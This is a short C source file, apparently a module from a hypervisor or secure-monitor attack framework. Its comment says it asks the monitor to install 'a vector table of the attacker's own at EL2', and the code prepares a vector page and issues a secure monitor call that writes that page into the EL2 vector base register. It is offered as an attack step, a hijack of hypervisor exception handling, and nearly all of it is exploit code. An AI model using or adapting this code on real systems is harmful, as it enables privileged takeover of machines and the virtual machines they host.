/* Asks the monitor for a vector table of the attacker's own at EL2. Runs at EL2. */
#include <rw/tvmi_smc.h>

#include "vectors.h"

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  bool mapped;
  const uint64_t page = vectors_prepare(api, &mapped);
  return (int)rw_smc(RW_SMC_EL2_WRITE, RW_EL2_VBAR, page, 0);
}
